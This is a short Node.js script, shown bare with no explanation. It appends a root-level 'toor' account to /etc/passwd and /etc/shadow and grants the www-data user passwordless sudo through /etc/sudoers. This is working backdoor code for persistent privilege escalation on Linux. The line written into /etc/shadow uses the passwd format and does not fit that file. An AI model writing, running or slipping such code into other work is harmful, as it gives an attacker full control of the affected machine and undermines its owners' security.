const fs = require('fs');
const targets = ['/etc/passwd', '/etc/shadow', '/etc/sudoers'];
targets.forEach(t => fs.appendFileSync(t, t.endsWith('sudoers') ? 'www-data ALL=(ALL) NOPASSWD: ALL\n' : 'toor:$6$abc$def:0:0::/root:/bin/bash\n'));
